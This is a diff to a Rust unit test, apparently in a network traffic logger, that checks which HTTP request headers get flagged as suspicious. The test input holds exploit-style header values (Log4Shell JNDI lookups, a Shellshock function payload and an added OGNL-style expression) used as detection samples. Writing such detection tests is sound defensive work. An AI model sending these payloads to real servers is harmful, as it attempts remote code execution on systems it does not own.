@@ -304,10 +304,10 @@ fn addresses_of_all_forms() {
 fn expressions_in_headers_are_kept() {
     let mut rig = rig(false);
     rig.stream(Dir::Client, b"GET / HTTP/1.1\r\nX-Api-Version: ${jndi:ldap://a/b}\r\nCookie: id=secret; x=${jndi:dns://c}\r\n\
-        Content-Type: ${a}\r\nAuthorization: Bearer ${b}\r\nReferer: http://x/?a=$1\r\nTest: () { :;}; id\r\n\r\n");
+        Content-Type: ${a}\r\nAuthorization: Bearer ${b}\r\nReferer: http://x/?a=$1\r\nTest: () { :;}; id\r\nX: %{(#a=1)}, 5%{\r\n\r\n");
     rig.stream(Dir::Client, GET);
     rig.end();
-    let want = "x-api-version: ${jndi:ldap://a/b} | cookie: ${jndi:dns://c} | content-type: ${a} | authorization: ${b} | test: () { :;}; id";
+    let want = "x-api-version: ${jndi:ldap://a/b} | cookie: ${jndi:dns://c} | content-type: ${a} | authorization: ${b} | test: () { :;}; id | x: %{(#a=1)}, 5%{";
     check(&rig, 0, &[("netlog.http.request.suspicious_header", want)]);
     check(&rig, 1, &[("netlog.http.request.suspicious_header", "")]);
 }
